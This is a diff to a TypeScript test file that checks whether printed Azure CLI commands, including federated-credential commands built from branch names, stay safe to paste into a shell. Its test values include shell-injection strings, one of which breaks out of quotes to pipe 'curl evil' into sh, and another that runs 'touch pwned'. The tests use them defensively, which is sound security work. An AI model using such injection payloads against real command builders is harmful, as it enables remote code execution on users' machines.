@@ -1,8 +1,11 @@
+import { execFileSync } from 'node:child_process'
 import {
   catalogueEntry,
   credentialName,
   DOC_CONTEXT,
+  federatedCredentialCommand,
   grantOwnedByCommand,
+  shellQuote,
   hintContext,
   hintsFor,
   subjectPrefix,
@@ -384,5 +387,31 @@ describe('commands the hints print', () => {
     const [, ...fixes] = diagnosis!.hints
     expect(fixes).toHaveLength(2)
     expect(fixes[0]).toMatch(/^service-principal-id takes the object ID of the target .*az ad sp show --id <appId>/)
+  })
+})
+
+describe('printed commands are safe to paste', () => {
+  it.each(["x';curl${IFS}evil|sh;'", "it's", 'plain', ''])(
+    'quotes %p as one shell word that bash reads back unchanged',
+    (text) => {
+      const echoed = execFileSync('bash', ['-c', `printf %s ${shellQuote(text)}`], { encoding: 'utf8' })
+      expect(echoed).toBe(text)
+    }
+  )
+
+  it('keeps a subject from a branch name with a quote inside the --parameters word', () => {
+    const subject = "repo:o/r:ref:refs/heads/x';touch${IFS}pwned;'"
+    const command = federatedCredentialCommand({ clientId: 'C', issuer: 'https://i', subject, audience: 'a' })
+    const words = execFileSync(
+      'bash',
+      ['-c', `for w in ${command.slice('az '.length)}; do printf '%s\\n' "$w"; done`],
+      {
+        encoding: 'utf8'
+      }
+    )
+      .trim()
+      .split('\n')
+    expect(words.slice(0, 5)).toEqual(['ad', 'app', 'federated-credential', 'create', '--id'])
+    expect(JSON.parse(words[words.length - 1])).toMatchObject({ subject })
   })
 })
